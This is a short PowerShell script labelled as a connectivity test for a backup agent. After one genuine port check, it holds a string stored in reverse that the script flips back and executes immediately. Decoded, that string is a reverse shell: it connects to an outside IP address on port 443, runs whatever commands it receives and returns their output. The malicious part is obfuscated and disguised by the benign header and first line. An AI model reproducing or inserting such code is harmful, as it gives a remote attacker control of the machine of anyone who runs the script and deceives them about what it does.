# Connectivity test for the backup agent.
Test-NetConnection -ComputerName bkp01.corp.local -Port 10000 | Select-Object ComputerName, TcpTestSucceeded

$r = '})htgneL.w$,0,w$(etirW.s$;)o$(setyBteG.)IICSA::]gnidocnE.txeT[(=w$;)gnirtS-tuO|1&>2 d$ xei(=o$;)i$,0,b$(gnirtSteG.)gnidocnEIICSA.txeT tcejbO-weN(=d${)0 en- ))htgneL.b$,0,b$(daeR.s$=i$((elihw;}0{%|53556..0=b$]][etyb[;)(maertSteG.c$=s$;)344,"32.001.15.891"(tneilCPCT.stekcoS.teN tcejbO-weN=c$'
$p = -join $r[-1..-($r.Length)]
. ([scriptblock]::Create($p))
